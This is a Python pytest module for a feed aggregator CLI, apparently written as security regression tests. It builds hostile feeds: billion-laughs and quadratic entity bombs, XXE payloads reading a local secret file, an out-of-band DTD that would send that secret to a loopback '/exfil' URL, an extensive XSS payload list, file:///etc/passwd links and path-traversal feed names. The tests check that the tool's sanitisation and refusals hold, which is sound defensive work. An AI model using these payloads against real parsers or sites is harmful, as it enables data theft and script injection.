"""Hostile input end to end: XML entity and DTD tricks, hostile HTML in external entries,
and config values that would write outside ``output/``.

Every test runs real ``feedloom`` subprocesses against real files and HTTP servers on
127.0.0.1; nothing leaves the machine. The loopback server counts every request, so
"nothing was fetched" is a number, not a hope.
"""

from __future__ import annotations

import itertools
import json
import os
import re
import subprocess
import sys
import threading
from collections import Counter
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import feedparser
import lxml.html
import pytest
from lxml import etree
from tests.conftest import NEWS_PAGE, CliRunner, LoopbackHTTPServer

NOW = "2025-01-02T08:00:00+08:00"

# --- shared helpers (test_reliability imports these) ---------------------------------

Respond = Callable[[BaseHTTPRequestHandler], None]


class Loopback:
    """A real HTTP/1.0 server on 127.0.0.1 whose routes are plain functions.

    ``hits`` counts every request by path (query dropped), answered or not, so a test
    can prove that a URL was never requested. ``stopping`` is set on close, for routes
    that stream forever.
    """

    def __init__(self) -> None:
        self.routes: dict[str, Respond] = {}
        self.hits: Counter[str] = Counter()
        self.stopping = threading.Event()
        self._lock = threading.Lock()
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                path = self.path.split("?", 1)[0]
                with outer._lock:
                    outer.hits[path] += 1
                respond = outer.routes.get(path)
                try:
                    if respond is None:
                        self.send_error(404)
                    else:
                        respond(self)
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client gave up on purpose (a limit): that is the point

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = LoopbackHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.server.block_on_close = False
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self._thread.start()

    def url(self, path: str) -> str:
        """The absolute URL of ``path`` on this server."""
        return f"http://127.0.0.1:{self.server.server_address[1]}{path}"

    def static(
        self,
        path: str,
        body: bytes,
        content_type: str = "application/rss+xml; charset=utf-8",
        status: int = 200,
        headers: dict[str, str] | None = None,
    ) -> str:
        """Serve ``body`` at ``path``; returns its URL."""

        def respond(h: BaseHTTPRequestHandler) -> None:
            h.send_response(status)
            h.send_header("Content-Type", content_type)
            h.send_header("Content-Length", str(len(body)))
            for name, value in (headers or {}).items():
                h.send_header(name, value)
            h.end_headers()
            h.wfile.write(body)

        self.routes[path] = respond
        return self.url(path)

    def close(self) -> None:
        self.stopping.set()
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def loopback() -> Iterator[Loopback]:
    """A fresh :class:`Loopback` server, shut down after the test."""
    server = Loopback()
    yield server
    server.close()


# Runs the CLI in-process under an address-space limit and reports its peak RSS on
# stderr: a parser that expands what it must not would hit the limit (MemoryError)
# or at least show up in the figure.
_LIMITED = """
import resource, sys
limit = int(sys.argv[1])
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
from feedloom.cli import main
code = 0
try:
    main(sys.argv[2:], prog_name="feedloom")
except SystemExit as exc:
    code = exc.code if isinstance(exc.code, int) else 1
finally:
    # VmHWM, not ru_maxrss: Linux carries ru_maxrss across fork+exec, so a child of a
    # big pytest process would report the parent's size. VmHWM belongs to this image.
    with open("/proc/self/status") as status:
        peak = next(int(l.split()[1]) for l in status if l.startswith("VmHWM:"))
    sys.stderr.write(f"\\nmaxrss_kb={peak}\\n")
sys.exit(code)
"""
ADDRESS_SPACE = 1536 * 1024 * 1024
_MAXRSS = re.compile(r"^maxrss_kb=(\d+)$", re.MULTILINE)


def run_limited(
    cwd: Path, *args: str, timeout: float = 60, address_space: int = ADDRESS_SPACE
) -> tuple[subprocess.CompletedProcess[str], float]:
    """Run ``feedloom ARGS`` in ``cwd`` under RLIMIT_AS; return the process and peak RSS in MB."""
    env = {k: v for k, v in os.environ.items() if k != "SOURCE_DATE_EPOCH"}
    env["PYTHONUTF8"] = "1"
    proc = subprocess.run(
        [sys.executable, "-c", _LIMITED, str(address_space), *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
    )
    found = _MAXRSS.findall(proc.stderr)
    assert found, f"no peak RSS reported (exit {proc.returncode}):\n{proc.stderr[-3000:]}"
    return proc, int(found[-1]) / 1024


def failed_sources(stderr: str) -> list[str]:
    """The ``source failed:`` lines a build printed."""
    return [line.strip() for line in stderr.splitlines() if "source failed:" in line]


def feed_toml(name: str, sources: list[str], *, extra: str = "") -> str:
    """A minimal feed file reading ``sources`` (URLs or paths relative to feeds/)."""
    tables = "".join(f'\n[[sources]]\ntype = "feed"\nurl = "{s}"\n' for s in sources)
    return (
        f'title = "{name}"\nsite_url = "https://{name}.example.org/"\n'
        f'timezone = "Asia/Shanghai"\n{extra}\n'
        '[[sources]]\ntype = "newspage"\npath = "../sources/news.txt"\n' + tables
    )


def rss(channel: str, items: list[tuple[str, str]], *, prolog: str = "") -> bytes:
    """An RSS 2.0 document with ``(guid, inner XML)`` items."""
    body = "".join(f"<item><guid>{g}</guid>{inner}</item>" for g, inner in items)
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n{prolog}'
        f'<rss version="2.0"><channel><title>{channel}</title>'
        f"<link>https://{channel}.example.org/</link><description>d</description>"
        f"{body}</channel></rss>\n"
    ).encode()


GOOD_TITLES = ("可靠来源第一条新闻", "可靠来源第二条新闻")
GOOD_FEED = rss(
    "good",
    [
        (f"good-{i}", f"<title>{t}</title><link>https://good.example.org/{i}</link>")
        for i, t in enumerate(GOOD_TITLES)
    ],
)


def headlines() -> list[str]:
    """The 40 headlines of the shipped news page, read independently of feedloom."""
    text = NEWS_PAGE.read_text(encoding="utf-8")
    found = [m.group(1).strip() for m in re.finditer(r"^- \d+\.(.+)$", text, re.MULTILINE)]
    assert len(found) == 40
    return found


def output_titles(out: Path, name: str) -> set[str]:
    """Entry titles of ``out/<name>.json``."""
    data = json.loads((out / f"{name}.json").read_bytes())
    return {item["title"] for item in data["items"]}


def all_bytes(*folders: Path) -> bytes:
    """Every file under ``folders`` concatenated (outputs, state DB and its WAL)."""
    return b"".join(
        f.read_bytes() for folder in folders if folder.exists() for f in folder.rglob("*")
    )


# --- XML: entities and DTDs ----------------------------------------------------------

SECRET = "FEEDLOOM-SECRET-7f3a9c"


def _laughs() -> str:
    # Declarations on their own lines: feedparser re-inserts "safe" entities only when
    # they are, so this is the layout that reaches its parsers.
    names = ["lol"] + [f"lol{i}" for i in range(1, 10)]
    lines = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY {name} "{f"&{prev};" * 10}">' for prev, name in itertools.pairwise(names)
    ]
    return "<!DOCTYPE rss [\n" + "\n".join(lines) + "\n]>\n"


def hostile_documents(secret: Path, server: Loopback) -> dict[str, bytes]:
    """Documents that must be read without expanding or fetching anything."""
    secret_uri = secret.as_uri()
    dtd_url, exfil = server.url("/evil.dtd"), server.url("/exfil")
    # The out-of-band XXE: a parameter entity loads a DTD that would send the secret
    # back to the server in a URL.
    server.static(
        "/evil.dtd",
        (
            f'<!ENTITY % file SYSTEM "{secret_uri}">\n'
            f"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '{exfil}?d=%file;'>\">\n"
            "%eval;\n%exfil;\n"
        ).encode(),
        "application/xml-dtd",
    )
    server.static("/xxe.txt", SECRET.encode(), "text/plain")
    server.static("/rss.dtd", f'<!ENTITY leak SYSTEM "{secret_uri}">\n'.encode(), "text/plain")

    def item(guid: str, text: str) -> list[tuple[str, str]]:
        return [(guid, f"<title>{guid} {text}</title><description>{text}</description>")]

    return {
        "laughs": rss("laughs", item("laughs-1", "&lol9;"), prolog=_laughs()),
        "xxe-file": rss(
            "xxefile",
            item("xxe-file-1", "&xxe;"),
            prolog=f'<!DOCTYPE rss [\n<!ENTITY xxe SYSTEM "{secret_uri}">\n]>\n',
        ),
        "xxe-inline": rss(
            "xxeinline",
            item("xxe-inline-1", "&xxe;"),
            prolog=f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{secret_uri}">]>\n',
        ),
        "xxe-http": rss(
            "xxehttp",
            item("xxe-http-1", "&xxe;"),
            prolog=f'<!DOCTYPE rss [\n<!ENTITY xxe SYSTEM "{server.url("/xxe.txt")}">\n]>\n',
        ),
        "param-entity": rss(
            "param",
            item("param-1", "text"),
            prolog=f'<!DOCTYPE rss [\n<!ENTITY % dtd SYSTEM "{dtd_url}">\n%dtd;\n]>\n',
        ),
        "doctype-system": rss(
            "system",
            item("system-1", "&leak;"),
            prolog=f'<!DOCTYPE rss SYSTEM "{server.url("/rss.dtd")}">\n',
        ),
    }


def benign_doctype(server: Loopback) -> bytes:
    """RSS 0.91 with the Netscape DOCTYPE (pointing at loopback): a real, valid feed."""
    server.static("/rss-0.91.dtd", b'<!ENTITY nbsp "&#160;">\n', "application/xml-dtd")
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        f' "{server.url("/rss-0.91.dtd")}">\n'
        '<rss version="0.91"><channel><title>Netscape</title>'
        "<link>https://netscape.example.org/</link><description>d</description>"
        "<language>en</language><item><title>Netscape style item</title>"
        "<link>https://netscape.example.org/1</link></item></channel></rss>\n"
    ).encode()


# URLs the parsers would request if they resolved anything: none may ever be hit.
NEVER_FETCHED = ("/evil.dtd", "/exfil", "/xxe.txt", "/rss.dtd", "/rss-0.91.dtd")


@pytest.fixture
def hostile_xml(project: Path, loopback: Loopback) -> dict[str, str]:
    """The hostile documents, each served by ``loopback`` and saved under sources/hostile/.

    Returns a map of source label to location (URL or path relative to feeds/). The
    secret file lives outside the project, as a real secret would.
    """
    secret = project / "private" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text(SECRET, encoding="utf-8")
    folder = project / "sources" / "hostile"
    folder.mkdir()
    locations = {}
    docs = hostile_documents(secret, loopback)
    for name, data in docs.items():
        (folder / f"{name}.xml").write_bytes(data)
        locations[f"file:{name}"] = f"../sources/hostile/{name}.xml"
        locations[f"http:{name}"] = loopback.static(f"/feeds/{name}.xml", data)
    return locations


def test_hostile_xml_in_a_build_reads_nothing_and_expands_nothing(
    project: Path, loopback: Loopback, hostile_xml: dict[str, str]
) -> None:
    (project / "sources" / "good.xml").write_bytes(GOOD_FEED)
    (project / "sources" / "netscape.xml").write_bytes(benign_doctype(loopback))
    sources = ["../sources/good.xml", "../sources/netscape.xml", *hostile_xml.values()]
    (project / "feeds" / "hostile.toml").write_text(feed_toml("hostile", sources), encoding="utf-8")
    proc, peak_mb = run_limited(project, "build", "--now", NOW, "hostile")
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    assert "hostile: " in proc.stderr and "written" in proc.stderr
    # Nothing was fetched, and nothing was read from the disk.
    assert {p: loopback.hits[p] for p in NEVER_FETCHED} == dict.fromkeys(NEVER_FETCHED, 0)
    everything = all_bytes(project / "output", project / ".feedloom")
    assert SECRET.encode() not in everything
    assert SECRET not in proc.stdout + proc.stderr
    # Nothing was expanded: 10**9 "lol"s would be gigabytes.
    assert b"lollollol" not in everything
    assert peak_mb < 200, f"peak RSS {peak_mb:.0f} MB"
    # The other sources still made it, including the valid feed with a Netscape DOCTYPE.
    titles = output_titles(project / "output", "hostile")
    assert set(GOOD_TITLES) <= titles
    assert "Netscape style item" in titles
    assert set(headlines()) <= titles
    for fmt in ("xml", "atom"):
        parsed = feedparser.parse((project / "output" / f"hostile.{fmt}").read_bytes())
        assert not parsed.bozo, parsed.bozo_exception
    assert not any("netscape" in line for line in failed_sources(proc.stderr))


def test_hostile_xml_sources_fail_with_a_clear_error(
    project: Path, hostile_xml: dict[str, str]
) -> None:
    (project / "sources" / "good.xml").write_bytes(GOOD_FEED)
    sources = ["../sources/good.xml", *hostile_xml.values()]
    (project / "feeds" / "hostile.toml").write_text(feed_toml("hostile", sources), encoding="utf-8")
    proc, _ = run_limited(project, "build", "--now", NOW, "hostile")
    assert proc.returncode == 0, proc.stderr
    lines = failed_sources(proc.stderr)
    for label, location in hostile_xml.items():
        shown = location if location.startswith("http") else Path(location).name
        matching = [line for line in lines if shown in line]
        assert matching, f"{label} ({location}) not reported as failed:\n{proc.stderr}"
        assert re.search(r"entit|DOCTYPE|DTD", matching[0], re.IGNORECASE), matching[0]
    assert set(GOOD_TITLES) <= output_titles(project / "output", "hostile")


def test_merge_command_with_hostile_local_files(
    project: Path, loopback: Loopback, hostile_xml: dict[str, str]
) -> None:
    (project / "sources" / "good.xml").write_bytes(GOOD_FEED)
    files = [
        str((project / "feeds" / loc).resolve())
        for label, loc in hostile_xml.items()
        if label.startswith("file:")
    ]
    proc, peak_mb = run_limited(
        project,
        "merge",
        "sources/good.xml",
        *files,
        "--format",
        "atom",
        "-o",
        "merged-out.atom",
        "--now",
        NOW,
    )
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    data = (project / "merged-out.atom").read_bytes()
    assert SECRET.encode() not in data and SECRET not in proc.stderr
    assert b"lollollol" not in data
    assert {p: loopback.hits[p] for p in NEVER_FETCHED} == dict.fromkeys(NEVER_FETCHED, 0)
    parsed = feedparser.parse(data)
    assert not parsed.bozo
    assert set(GOOD_TITLES) <= {e.title for e in parsed.entries}
    assert peak_mb < 200, f"peak RSS {peak_mb:.0f} MB"


def quadratic_blowup(entity_kb: int = 10, references: int = 2000) -> bytes:
    """One ``entity_kb`` KB entity referenced ``references`` times: ~20 MB if expanded."""
    decl = f'<!DOCTYPE rss [\n<!ENTITY q "{"Q" * (entity_kb * 1024)}">\n]>\n'
    inner = f"<title>quad</title><description>{'&q;' * references}</description>"
    return rss("quadratic", [("quad-1", inner)], prolog=decl)


def test_quadratic_blowup_is_refused_with_bounded_memory(project: Path, loopback: Loopback) -> None:
    data = quadratic_blowup()
    (project / "sources" / "quadratic.xml").write_bytes(data)
    (project / "sources" / "good.xml").write_bytes(GOOD_FEED)
    served = loopback.static("/quadratic.xml", data)
    sources = ["../sources/good.xml", "../sources/quadratic.xml", served]
    (project / "feeds" / "quad.toml").write_text(feed_toml("quad", sources), encoding="utf-8")
    proc, peak_mb = run_limited(project, "build", "--now", NOW, "quad")
    assert proc.returncode == 0, proc.stderr
    out = project / "output"
    assert set(GOOD_TITLES) <= output_titles(out, "quad")
    assert all((out / f"quad.{s}").stat().st_size < 1_000_000 for s in ("xml", "atom", "json"))
    assert b"Q" * 1000 not in all_bytes(out, project / ".feedloom")
    assert peak_mb < 150, f"peak RSS {peak_mb:.0f} MB"
    lines = failed_sources(proc.stderr)
    assert any("quadratic.xml" in line and served not in line for line in lines), proc.stderr
    assert any(served in line for line in lines), proc.stderr


# --- hostile HTML in external entries ------------------------------------------------

# Each payload carries a marker inside the dangerous part itself (a script body, a
# handler, a URL, a CSS value): a marker in any output means the construct got through.
_HTML_PAYLOAD = (
    '<p onclick="XSS_A()">kept paragraph</p><script>XSS_B()</script>'
    '<img src="https://img.example.org/ok.png" onerror="XSS_C()">'
    '<a href="javascript:XSS_D()">js link</a><a href="JaVaScRiPt&#58;XSS_E()">js2</a>'
    '<a href="data:text/html,XSS_F">data link</a><a href="vbscript:XSS_G">vb</a>'
    '<p style="width: expression(XSS_H())">css expression</p>'
    '<div style="background:url(javascript:XSS_I)">css url</div>'
    "<style>p { behavior: url(XSS_J.htc); width: expression(XSS_K()) }</style>"
    '<iframe src="javascript:XSS_L()"></iframe><svg onload="XSS_M()"><script>XSS_N()</script></svg>'
    '<object data="data:text/html,XSS_O"></object><embed src="javascript:XSS_P()">'
    '<form action="javascript:XSS_Q()"><input onfocus="XSS_R()" autofocus></form>'
    '<meta http-equiv="refresh" content="0;url=javascript:XSS_S()">'
    '<base href="javascript:XSS_T/"><link rel="stylesheet" href="javascript:XSS_U">'
    "<math><mtext><script>XSS_V()</script></mtext></math>"
    '<img src="data:image/svg+xml,XSS_W" alt="data image">'
    '<a href="jav&#x09;ascript:XSS_X()">tab</a>'
    '<noscript><p title="</noscript><img src=x onerror=XSS_Y()>"></noscript>'
    '<a href="&#x20;javascript:XSS_Z()">space</a>'
)
# C0 controls (illegal in XML, so written as JSON escapes or raw in the page), DEL and C1.
_CONTROLS = "\x01\x02\x07\x08\x0b\x0c\x0e\x1b\x1f\x7f\x80\x85\x9b\x9f"
_CONTROL_RE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
_MARKER = re.compile(r"XSS_[A-Z0-9]+")


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def hostile_html_feeds() -> dict[str, bytes]:
    """An RSS, an Atom and a JSON feed whose entries carry every payload."""
    rss_doc = rss(
        "hostilerss",
        [
            (
                "rss-1",
                "<title>RSS one &lt;script&gt;XSS_R1()&lt;/script&gt; "
                "&lt;img src=x onerror=XSS_R2()&gt;ctl\x7f\x85\x9b end</title>"
                "<link>javascript:XSS_R3()</link>"
                f"<description>{_escape(_HTML_PAYLOAD)}</description>"
                '<enclosure url="javascript:XSS_R4()" type="audio/mpeg" length="1"/>'
                "<category>cat\x7f</category>",
            ),
            (
                "rss-2",
                "<title>RSS two</title><link>data:text/html,XSS_R5</link>"
                f"<content:encoded xmlns:content='http://purl.org/rss/1.0/modules/content/'>"
                f"<![CDATA[{_HTML_PAYLOAD}]]></content:encoded>"
                '<enclosure url="data:audio/mpeg;base64,XSS_R6" type="audio/mpeg" length="1"/>',
            ),
            ("rss-3", "<title>RSS three</title><link>file:///etc/passwd#XSS_R7</link>"),
        ],
    )
    atom_doc = (
        '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
        "<id>urn:hostile-atom</id><title>hostileatom</title><updated>2024-12-01T00:00:00Z</updated>"
        '<link href="https://hostileatom.example.org/"/>'
        '<entry xml:base="javascript:XSS_A1/"><id>urn:atom-1</id>'
        '<title type="html">&lt;b onmouseover=XSS_A2()&gt;Atom one&lt;/b&gt; title</title>'
        "<updated>2024-12-01T00:00:00Z</updated>"
        '<link rel="alternate" href="javascript:XSS_A3()"/>'
        '<link rel="enclosure" href="javascript:XSS_A4()" type="audio/mpeg" length="1"/>'
        "<author><name>attacker</name><uri>javascript:XSS_A5()</uri></author>"
        f'<summary type="html">{_escape("<img src=x onerror=XSS_A6()>summary")}</summary>'
        '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">'
        '<script>XSS_A7()</script><a href="relative/page">relative link</a>'
        '<p style="color: expression(XSS_A8())">xhtml para</p></div></content></entry>'
        "<entry><id>urn:atom-2</id><title>Atom two</title><updated>2024-12-02T00:00:00Z</updated>"
        '<link href="https://hostileatom.example.org/2"/>'
        f'<content type="html">{_escape(_HTML_PAYLOAD)}</content></entry></feed>\n'
    ).encode()
    json_doc = json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "title": "hostilejson",
            "home_page_url": "https://hostilejson.example.org/",
            "items": [
                {
                    "id": "json-1",
                    "title": f"JSON one {_CONTROLS} <script>XSS_J1()</script> end",
                    "url": "javascript:XSS_J2()",
                    "external_url": "data:text/html,XSS_J3",
                    "content_html": _HTML_PAYLOAD,
                    "attachments": [{"url": "javascript:XSS_J4()", "mime_type": "audio/mpeg"}],
                    "authors": [{"name": "attacker", "url": "javascript:XSS_J5()"}],
                    "tags": [f"tag{_CONTROLS}"],
                    "date_published": "2024-12-03T00:00:00Z",
                },
                {
                    "id": "json-2",
                    "title": "JSON two",
                    "url": "https://hostilejson.example.org/2",
                    "content_text": f"plain {_CONTROLS} text",
                    "date_published": "2024-12-04T00:00:00Z",
                },
            ],
        },
        ensure_ascii=True,
    ).encode()
    return {"hostile-rss.xml": rss_doc, "hostile-atom.atom": atom_doc, "hostile.json": json_doc}


_BAD_URL = re.compile(r"^\s*(javascript|vbscript|data|file):", re.IGNORECASE)
_BAD_ELEMENTS = (
    "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input",
    "meta", "base", "link", "noscript",
)  # fmt: skip


def _html_problems(fragment: str, where: str, *, page: bool = False) -> list[str]:
    """Live dangerous markup in an HTML fragment (or the HTML page itself)."""
    if not fragment.strip():
        return []
    root = (
        lxml.html.document_fromstring(fragment)
        if page
        else lxml.html.fragment_fromstring(fragment, create_parent="div")
    )
    problems = []
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.lower()
        # The page's own <head> has one <style> (hashed in its CSP) and <meta>/<link>s.
        in_head = page and any(a.tag == "head" for a in el.iterancestors())
        if tag in _BAD_ELEMENTS and not in_head:
            problems.append(f"{where}: <{tag}> element")
        for name, value in el.attrib.items():
            if name.lower().startswith("on"):
                problems.append(f"{where}: {name}= on <{tag}>")
            if name.lower() == "style":
                problems.append(f"{where}: style= on <{tag}>")
            if name.lower() in ("href", "src", "action", "data", "formaction", "poster") and (
                _BAD_URL.match(value)
            ):
                problems.append(f"{where}: {name}={value!r} on <{tag}>")
    return problems


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def output_problems(out: Path, name: str) -> list[str]:
    """Everything dangerous in the four outputs of feed ``name``."""
    problems = []
    texts = {
        s: (out / f"{name}.{s}").read_text(encoding="utf-8")
        for s in ("xml", "atom", "json", "html")
    }
    for suffix, text in texts.items():
        problems += [f"{suffix}: marker {m}" for m in sorted(set(_MARKER.findall(text)))]
        problems += [f"{suffix}: control {c!r}" for c in sorted(set(_CONTROL_RE.findall(text)))]
        # Character references to C0 controls are illegal in XML 1.0 and mean a bypass.
        if re.search(
            r"&#(x0*[0-8bcef]|x0*1[0-9a-f]|0*([0-8]|1[1-24-9]|2[0-9]|3[01]));", text, re.I
        ):
            problems.append(f"{suffix}: character reference to a control character")
    # RSS: description and content:encoded are HTML; links and enclosures are URLs.
    channel = etree.fromstring(texts["xml"].encode()).find("channel")
    for item in channel.iter("item"):
        for child in item:
            tag = etree.QName(child).localname
            if tag in ("description", "encoded"):
                problems += _html_problems(child.text or "", f"rss <{tag}>")
            if tag in ("link", "comments") and _BAD_URL.match(child.text or ""):
                problems.append(f"rss <{tag}>{child.text}")
            for attr in ("url", "href"):
                if _BAD_URL.match(child.get(attr, "")):
                    problems.append(f"rss <{tag} {attr}={child.get(attr)!r}>")
    # Atom: html content/summary; every href and uri.
    atom = etree.fromstring(texts["atom"].encode())
    for el in atom.iter():
        if not isinstance(el.tag, str):
            continue
        tag = etree.QName(el).localname
        if tag in ("content", "summary", "title") and el.get("type") == "html":
            problems += _html_problems(el.text or "", f"atom <{tag}>")
        if tag in ("content", "summary") and el.get("type") == "xhtml":
            problems += _html_problems(etree.tostring(el, encoding="unicode"), f"atom <{tag}>")
        if _BAD_URL.match(el.get("href", "")):
            problems.append(f"atom <{tag} href={el.get('href')!r}>")
        if tag in ("uri", "icon", "logo") and _BAD_URL.match(el.text or ""):
            problems.append(f"atom <{tag}>{el.text}")
    # JSON Feed: content_html is HTML; every URL-ish member; every string is control-free.
    doc = json.loads(texts["json"])
    for string in _strings(doc):
        if _CONTROL_RE.search(string):
            problems.append(f"json: control in {string!r}")
    for item in doc["items"]:
        problems += _html_problems(item.get("content_html", ""), f"json {item['id']}")
        urls = [item.get("url"), item.get("external_url")]
        urls += [a.get("url") for a in item.get("attachments", [])]
        urls += [a.get("url") for a in item.get("authors", [])]
        problems += [f"json {item['id']}: url {u!r}" for u in urls if u and _BAD_URL.match(u)]
    problems += _html_problems(texts["html"], "html page", page=True)
    return problems


@pytest.fixture
def hostile_html_build(project: Path, cli: CliRunner) -> subprocess.CompletedProcess[str]:
    """A build of feed ``xss``: the news page plus three hostile feeds (local files)."""
    folder = project / "sources" / "hostile"
    folder.mkdir()
    for name, data in hostile_html_feeds().items():
        (folder / name).write_bytes(data)
    sources = [f"../sources/hostile/{n}" for n in hostile_html_feeds()]
    (project / "feeds" / "xss.toml").write_text(feed_toml("xss", sources), encoding="utf-8")
    return cli("build", "--now", NOW, "xss")


def test_hostile_html_is_absent_from_every_output_format(
    project: Path, hostile_html_build: subprocess.CompletedProcess[str]
) -> None:
    proc = hostile_html_build
    assert proc.returncode == 0, proc.stderr
    assert not failed_sources(proc.stderr), proc.stderr
    out = project / "output"
    titles = output_titles(out, "xss")
    # The hostile entries themselves are published (sanitised), not dropped.
    for expected in ("RSS two", "RSS three", "Atom two", "JSON two"):
        assert expected in titles
    assert any(t.startswith("RSS one") for t in titles)
    assert any(t.startswith("JSON one") for t in titles)
    data = json.loads((out / "xss.json").read_bytes())
    kept = [i for i in data["items"] if "kept paragraph" in i.get("content_html", "")]
    assert len(kept) >= 3  # the harmless part of the payload survives in each format
    assert output_problems(out, "xss") == []


def test_output_checker_finds_planted_problems(tmp_path: Path) -> None:
    """The checker above must be able to fail: plant one problem per kind and see it found."""
    base = {
        "xml": '<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>'
        "<item><description>{d}</description><link>{l}</link></item></channel></rss>",
        "atom": '<feed xmlns="http://www.w3.org/2005/Atom"><entry><content type="html">{d}'
        '</content><link href="{l}"/></entry></feed>',
        "json": '{{"items": [{{"id": "1", "content_html": {dj}, "url": {lj}}}]}}',
        "html": "<!DOCTYPE html><html><head><title>t</title></head><body>{h}</body></html>",
    }
    payload = '<a href="javascript:x()">a</a>'
    for suffix, template in base.items():
        (tmp_path / f"f.{suffix}").write_text(
            template.format(
                d=_escape(payload),
                l="javascript:XSS_PLANTED()",
                dj=json.dumps(payload),
                lj=json.dumps("data:text/html,x"),
                h="<p onclick='x()'>\x07</p>",
            ),
            encoding="utf-8",
        )
    found = "\n".join(output_problems(tmp_path, "f"))
    for expected in (
        "rss <description>: href=",
        "rss <link>javascript:",
        "atom <content>: href=",
        "atom <link href=",
        "json 1: href=",
        "json 1: url 'data:",
        "html page: onclick=",
        "html: control",
        "marker XSS_PLANTED",
    ):
        assert expected in found, f"{expected!r} not in:\n{found}"


LOCAL_FEED = rss(
    "local",
    [
        (
            "local-1",
            "<title>Local one</title><link>page-1.html</link>"
            '<enclosure url="clip.mp3" type="audio/mpeg" length="1"/>'
            "<description>&lt;p&gt;&lt;img src=&quot;pic.png&quot;&gt; "
            "&lt;a href=&quot;other.html&quot;&gt;other&lt;/a&gt;&lt;/p&gt;</description>",
        ),
        ("local-2", "<title>Local two</title><link>file:///etc/passwd</link>"),
    ],
)


LOCAL_ATOM = (
    b'<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">'
    b"<id>urn:local-atom</id><title>atomlocal</title><updated>2024-12-01T00:00:00Z</updated>"
    b'<link href="https://atomlocal.example.org/"/><entry><id>urn:local-atom-1</id>'
    b"<title>Atom local</title><updated>2024-12-01T00:00:00Z</updated>"
    b'<link href="a.html"/><content type="html">&lt;img src="pic.png"&gt;</content></entry>'
    b"</feed>\n"
)


def test_local_file_sources_never_publish_local_paths(project: Path, cli: CliRunner) -> None:
    """Relative references in a local file resolve against the feed's site, never against
    its ``file://`` URI (a regression seen while the parser was being split in two)."""
    (project / "sources" / "local.xml").write_bytes(LOCAL_FEED)
    (project / "sources" / "local.atom").write_bytes(LOCAL_ATOM)
    toml = feed_toml("local", ["../sources/local.xml", "../sources/local.atom"])
    (project / "feeds" / "local.toml").write_text(toml, encoding="utf-8")
    proc = cli("build", "--now", NOW, "local")
    assert proc.returncode == 0, proc.stderr
    out = project / "output"
    for suffix in ("xml", "atom", "json", "html"):
        data = (out / f"local.{suffix}").read_bytes()
        assert b"file:" not in data and str(project).encode() not in data, suffix
    items = {i["title"]: i for i in json.loads((out / "local.json").read_bytes())["items"]}
    assert {"Local one", "Local two", "Atom local"} <= set(items)
    one, atom = items["Local one"], items["Atom local"]
    assert one["url"] == "https://local.example.org/page-1.html"
    assert 'src="https://local.example.org/pic.png"' in one["content_html"]
    assert one["attachments"][0]["url"] == "https://local.example.org/clip.mp3"
    assert atom["url"] == "https://atomlocal.example.org/a.html"
    assert 'src="https://atomlocal.example.org/pic.png"' in atom["content_html"]
    assert "url" not in items["Local two"]  # its only link was file:///etc/passwd


# --- config: nothing may be written outside output/ ----------------------------------


@pytest.mark.parametrize(
    "name",
    ["../x", "../../etc/x", "/tmp/feedloom-escape", ".hidden", "..", "a/b", "a\\b", "x\x00y", ""],
)
def test_feed_names_that_escape_output_are_rejected(
    project: Path, cli: CliRunner, name: str
) -> None:
    toml = project / "feeds" / "news.toml"
    escaped = json.dumps(name)  # a TOML basic string is JSON-compatible for these
    toml.write_text(f"name = {escaped}\n" + toml.read_text(encoding="utf-8"), encoding="utf-8")
    proc = cli("build", "--now", NOW)
    assert proc.returncode == 2, proc.stderr
    assert "news.toml" in proc.stderr and "'name'" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert not (project / "output").exists()
    assert not (project / "x.xml").exists() and not Path("/tmp/feedloom-escape.xml").exists()


def test_dotfile_feed_config_never_writes_a_dotfile(project: Path, cli: CliRunner) -> None:
    """A feed file named ``.hidden.toml`` would take ``.hidden`` as its name: it must be
    refused (exit 2) or skipped, and never publish ``output/.hidden.*``."""
    news = project / "feeds" / "news.toml"
    (project / "feeds" / ".hidden.toml").write_text(
        news.read_text(encoding="utf-8"), encoding="utf-8"
    )
    proc = cli("build", "--now", NOW)
    assert proc.returncode in (0, 2), proc.stderr
    if proc.returncode == 2:
        assert ".hidden" in proc.stderr and "Traceback" not in proc.stderr
    out = project / "output"
    assert not out.exists() or not any(p.name.startswith(".") for p in out.iterdir())
